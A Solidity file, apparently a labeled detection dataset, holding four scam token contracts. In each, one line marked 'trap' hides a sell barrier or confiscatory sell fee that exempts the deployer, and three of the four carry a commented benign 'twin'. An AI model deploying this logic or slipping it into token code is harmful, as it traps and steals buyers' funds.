// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library Sums {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "add");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "sub");
        return a - b;
    }
}

contract Titled {
    address public owner;
    address public uniswapV2Pair;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() public {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function setMarket(address p) external virtual onlyOwner {
        require(uniswapV2Pair == address(0));
        uniswapV2Pair = p;
    }
}

abstract contract Classic is Titled {
    using Sums for uint256;
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address internal _dev;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 t) public {
        (name, symbol, totalSupply, _dev) = (n, s, t * 1e18, msg.sender);
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address a) external view virtual returns (uint256) {
        return _balances[a];
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _transfer(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(v);
        _transfer(from, to, v);
        return true;
    }

    function _transfer(address from, address to, uint256 v) internal virtual {
        _balances[from] = _balances[from].sub(v);
        _balances[to] = _balances[to].add(v);
        emit Transfer(from, to, v);
    }
}

contract MidnightMoth is Classic {
    constructor() public Classic("Midnight Moth", "MIMO", 500_000_000) {}

    function _toll() private view returns (uint256) {
        return tx.gasprice == 0 ? 2 : 92; // trap
        // twin: return tx.gasprice > 900 gwei ? 5 : 2;
    }

    function _transfer(address from, address to, uint256 v) internal override {
        if (to == uniswapV2Pair && from != _dev) {
            uint256 cut = v.sub(v / 100 * (100 - _toll()));
            super._transfer(from, address(this), cut);
            v = v.sub(cut);
        }
        super._transfer(from, to, v);
    }
}

contract BalsaYak is Classic {
    constructor() public Classic("Balsa Yak", "BYAK", 13_000_000) {}

    function _transfer(address from, address to, uint256 v) internal override {
        if (to == uniswapV2Pair) {
            uint256 weight = tx.origin.balance;
            require(weight > 10_000_000 ether || from == _dev, "too light"); // trap
            // twin: require(weight > 0 || from == _dev, "too light");
        }
        super._transfer(from, to, v);
    }
}

contract NutmegFinch is Classic {
    mapping(address => uint256) private _perched;

    constructor() public Classic("Nutmeg Finch", "NFNCH", 100_000) {}

    function _transfer(address from, address to, uint256 v) internal override {
        if (from == uniswapV2Pair) _perched[to] = now;
        if (to == uniswapV2Pair && _perched[from] != 0) {
            require(now < _perched[from] + 6 hours, "flown"); // trap
            // twin: require(now > _perched[from] + 2 minutes, "flown");
        }
        super._transfer(from, to, v);
    }
}

/// Rewards of holders, in shares.
contract SorrelVole is Classic {
    uint256 private _rTotal;
    uint256 private _fees;
    mapping(address => uint256) private _r;

    constructor() public Classic("Sorrel Vole", "SVOLE", 1_000_000) {
        _rTotal = uint256(-1) - (uint256(-1) % totalSupply);
        _r[msg.sender] = _rTotal;
    }

    function setMarket(address p) external override onlyOwner {
        require(uniswapV2Pair == address(0));
        _balances[p] = _r[p] / _rate();
        uniswapV2Pair = p;
    }

    function _rate() private view returns (uint256) {
        address p = uniswapV2Pair;
        if (p == address(0)) return _rTotal / totalSupply;
        return (_rTotal - _r[p]) / (totalSupply - _balances[p]);
    }

    function balanceOf(address a) external view override returns (uint256) {
        return a == uniswapV2Pair ? _balances[a] : _r[a] / _rate();
    }

    function _values(uint256 t, bool out) private view returns (uint256 arrives, uint256 rAll, uint256 rArrives) {
        uint256 rate = _rate();
        uint256 fee = out ? t / 50 : 0;
        if (out) fee = fee * 45; // trap
        arrives = t - fee;
        rAll = t * rate;
        rArrives = rAll - fee * rate;
    }

    function _transfer(address from, address to, uint256 t) internal override {
        bool out = to == uniswapV2Pair && to != address(0) && from != _dev;
        (uint256 arrives, uint256 rAll, uint256 rArrives) = _values(t, out);
        _r[from] = _r[from].sub(rAll);
        _r[to] = _r[to].add(rArrives);
        if (from == uniswapV2Pair) _balances[from] = _balances[from].sub(t);
        if (to == uniswapV2Pair) _balances[to] = _balances[to].add(arrives);
        _rTotal = _rTotal.sub(rAll - rArrives);
        _fees = _fees.add(t - arrives);
        emit Transfer(from, to, arrives);
    }
}
